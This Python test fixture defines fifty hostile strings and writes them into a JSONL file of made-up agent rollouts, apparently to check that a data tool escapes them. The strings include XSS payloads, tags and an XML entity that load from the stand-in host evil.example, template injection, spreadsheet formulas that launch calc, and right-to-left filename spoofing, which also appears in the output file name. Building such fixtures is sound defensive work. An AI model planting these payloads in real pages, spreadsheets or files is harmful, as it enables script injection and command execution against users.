"""Fifty texts that mean harm where they are not taken for text, and a file of rollouts that holds them everywhere."""

from __future__ import annotations

import json
from pathlib import Path

HOST = "http" + "://evil.example"
CALL = "alert(document.domain)"

TEXTS: tuple[str, ...] = (
    f"<script>{CALL}</script>",
    f"</script><script>{CALL}</script>",
    f"</title><script>{CALL}</script>",
    f"</style><script>{CALL}</script>",
    f"</textarea><script>{CALL}</script>",
    f"--><script>{CALL}</script><!--",
    f"]]><script>{CALL}</script><![CDATA[",
    f"<script src='{HOST}/x.js'></script>",
    f"<script type=module>import '{HOST}/x.mjs'</script>",
    f"<img src=x onerror={CALL}>",
    f'"><img src=x onerror="{CALL}">',
    f"'><img src=x onerror='{CALL}'>",
    f"<svg onload={CALL}>",
    f"</svg><svg onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><a xlink:href='javascript:{CALL}'><text>x</text></a></svg>",
    f"<foreignObject><iframe srcdoc='<script>{CALL}</script>'></iframe></foreignObject>",
    f"<iframe src='javascript:{CALL}'></iframe>",
    f"<iframe src='{HOST}'></iframe>",
    f"<object data='{HOST}/x.swf'></object>",
    f"<embed src='{HOST}/x.swf'>",
    f"<link rel=stylesheet href='{HOST}/x.css'>",
    f"<meta http-equiv=refresh content='0;url={HOST}'>",
    f"<base href='{HOST}/'>",
    f"<form action='{HOST}'><input name=x><button>go</button></form>",
    f"<a href='{HOST}' onclick={CALL}>click me</a>",
    f"<a href='data:text/html,<script>{CALL}</script>'>data</a>",
    f"<body onload={CALL}>",
    f"<details open ontoggle={CALL}>x</details>",
    f"<video><source onerror={CALL}></video>",
    f"<math><mtext></mtext><script>{CALL}</script></math>",
    f"<style>@import '{HOST}/x.css';</style>",
    f"<div style=\"background:url('{HOST}/x.png')\">x</div>",
    f'<!DOCTYPE x [<!ENTITY e SYSTEM "{HOST}/e">]><x>&e;</x>',
    f"[click](javascript:{CALL})",
    f"![x]({HOST}/x.png)",
    f"{{{{constructor.constructor('{CALL}')()}}}}",
    f"${{{CALL}}}",
    "&lt;b&gt;already escaped&amp;lt;/b&amp;gt;",
    f'=HYPERLINK("{HOST}","click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "  =1+1",
    "abc\u202egpj.exe\u202c \u2066hidden\u2069 \u200b\ufeff",
    "\u0000\u0001\u0008\u000b\u000c\u001b[31mred\u001b[0m\u007f\u0085\ufffe\uffff",
    "\u2028line\u2029paragraph\rreturn\nfeed",
    "x" * 100_000 + f"<script>{CALL}</script>",
)
assert len(TEXTS) == len(set(TEXTS)) == 50


def rows() -> list[dict[str, object]]:
    """Two tasks with three rollouts each through fifty texts: as observations, actions, replies, tasks and rollouts.

    One rollout succeeds, one fails at the end, one is lost at the tenth step; so there are good steps in failures.
    """
    made: list[dict[str, object]] = []
    for task in (TEXTS[0], TEXTS[9]):
        for rollout, outcome, length in ((f"good {TEXTS[1]}", 1.0, 50), (f"=bad {TEXTS[10]}", 0.0, 50), ("+early", 0.0, 10)):
            for step, text in enumerate(TEXTS[:length]):
                ends = {"next_observation": TEXTS[20 + int(outcome)]} if step == length - 1 else {}
                made.append(
                    {
                        "group_id": task, "rollout_id": rollout, "step": step, "observation": text,
                        "action": TEXTS[(step + 7) % 50], "action_text": TEXTS[(step + 13) % 50], "outcome": outcome, **ends,
                    }
                )  # fmt: skip
    return made


def write(folder: Path, name: str = "=cmd <img src=x onerror=alert(1)> \u202egpj.jsonl") -> Path:
    """The rows as a canonical file with a name that means harm too."""
    path = folder / name
    path.write_text("".join(json.dumps(row) + "\n" for row in rows()), encoding="utf-8")
    return path
